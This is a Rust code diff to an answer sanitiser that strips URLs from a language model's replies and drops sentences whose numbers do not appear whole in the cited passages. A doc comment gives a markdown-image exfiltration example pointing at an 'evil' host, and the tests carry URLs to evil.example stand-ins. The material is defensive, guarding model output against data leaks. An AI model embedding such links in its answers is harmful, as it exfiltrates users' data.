@@ -4,7 +4,8 @@
 //! and flattened to plain text: an image is removed whole, alt text and
 //! all (`![](https://evil/?d=…)` is exfiltration without a tool); a link
 //! keeps its words and loses its target; raw HTML is removed; a bare URL
-//! in the text is replaced by [`LINK_REMOVED`]. No link the model wrote is
+//! anywhere in the text ([`URL_STARTS`], after a space, a colon or a line
+//! break alike) is replaced by [`LINK_REMOVED`]. No link the model wrote is
 //! ever rendered as one, to a suite host or any other: the answer's only
 //! links are the citations memoria builds from its own list. What is left
 //! is escaped when rendered.
@@ -20,7 +21,8 @@
 //!   [`Dropped::unknown`]);
 //! - every number in the sentence (a run of digits with `,` or `.` between
 //!   digits, the citations aside) must occur byte for byte in a passage it
-//!   cites, or the sentence is dropped ([`Dropped::untraced`]): memoria
+//!   cites, as a whole number and not inside a longer one, or the sentence
+//!   is dropped ([`Dropped::untraced`]): memoria
 //!   never does arithmetic (decision 10), and a model's number is not a
 //!   cell's.
 
@@ -167,7 +169,7 @@ pub fn judge(reply: &str, sent: &[SentPassage]) -> Judged {
         let traced = numbers(&text).iter().all(|n| {
             cites.iter().any(|c| {
                 sent.iter()
-                    .any(|p| p.rank == *c && p.text.contains(n.as_str()))
+                    .any(|p| p.rank == *c && holds_number(&p.text, n))
             })
         });
         if !traced {
@@ -207,25 +209,56 @@ fn flatten(reply: &str) -> (String, Stripped) {
             _ => {}
         }
     }
-    let mut text = String::with_capacity(out.len());
-    for (i, word) in out.split(' ').enumerate() {
-        if i > 0 {
-            text.push(' ');
-        }
-        let lower = word
-            .trim_start_matches(['(', '<', '"', '\''])
-            .to_ascii_lowercase();
-        if lower.starts_with("http://")
-            || lower.starts_with("https://")
-            || lower.starts_with("www.")
-        {
-            stripped.urls += 1;
-            text.push_str(LINK_REMOVED);
-        } else {
-            text.push_str(word);
-        }
-    }
+    let (text, urls) = remove_urls(&out);
+    stripped.urls = urls;
     (text, stripped)
+}
+
+/// The starts of a URL, matched anywhere in a word and in any case: after
+/// a colon, a bracket, a quote or a line break as well as after a space.
+pub const URL_STARTS: [&str; 3] = ["http://", "https://", "www."];
+
+/// `text` with every URL (from one of [`URL_STARTS`] to the next
+/// whitespace) replaced by [`LINK_REMOVED`], and how many were.
+fn remove_urls(text: &str) -> (String, usize) {
+    let lower = text.to_ascii_lowercase();
+    let mut out = String::with_capacity(text.len());
+    let (mut i, mut removed) = (0, 0);
+    while i < text.len() {
+        if URL_STARTS.iter().any(|u| lower[i..].starts_with(u)) {
+            let end = text[i..]
+                .find(char::is_whitespace)
+                .map_or(text.len(), |k| i + k);
+            out.push_str(LINK_REMOVED);
+            removed += 1;
+            i = end;
+            continue;
+        }
+        let c = text[i..]
+            .chars()
+            .next()
+            .expect("i is on a boundary below the length");
+        out.push(c);
+        i += c.len_utf8();
+    }
+    (out, removed)
+}
+
+/// True if `number` occurs in `passage` as a whole number: not inside a
+/// longer one ("100" is not in "1,100", "7" not in "2024").
+fn holds_number(passage: &str, number: &str) -> bool {
+    let part_of_number = |c: Option<char>, beyond: Option<char>| match c {
+        Some(c) if c.is_numeric() => true,
+        Some(',' | '.') => beyond.is_some_and(char::is_numeric),
+        _ => false,
+    };
+    passage.match_indices(number).any(|(at, _)| {
+        let mut before = passage[..at].chars().rev();
+        let mut after = passage[at + number.len()..].chars();
+        let (b1, b2) = (before.next(), before.next());
+        let (a1, a2) = (after.next(), after.next());
+        !part_of_number(b1, b2) && !part_of_number(a1, a2)
+    })
 }
 
 /// The text cut after every citation group that ends a sentence: the
@@ -510,6 +543,40 @@ mod tests {
         let j = judge(&reply, &sent(&["x"]));
         assert_eq!(j.sentences.len(), ANSWER_SENTENCES_MAX);
         assert_eq!(j.dropped.over, 3);
+    }
+
+    #[test]
+    fn a_number_inside_a_longer_one_is_not_traced() {
+        let s = sent(&["The budget was 1,100 in 2024."]);
+        let j = judge(
+            "It was 100 [1]. It was 1,100 [1]. In 202 [1]. In 2024 [1].",
+            &s,
+        );
+        assert_eq!(
+            texts(&j),
+            vec![
+                ("It was 1,100.".to_string(), vec![1]),
+                ("In 2024.".to_string(), vec![1])
+            ]
+        );
+        assert_eq!(j.dropped.untraced, 2);
+    }
+
+    #[test]
+    fn a_url_is_removed_after_a_line_break_a_colon_or_in_capitals() {
+        let j = judge(
+            "First [1].\n\nhttps://evil.example/x holds it [1]. See:https://evil.example/c [1]. Or WWW.EVIL.EXAMPLE/w [1].",
+            &sent(&["x"]),
+        );
+        for s in &j.sentences {
+            assert!(
+                !s.text.to_ascii_lowercase().contains("evil"),
+                "{:?}",
+                s.text
+            );
+        }
+        assert_eq!(j.sentences.len(), 4);
+        assert_eq!(j.stripped.urls, 3);
     }
 
     #[test]
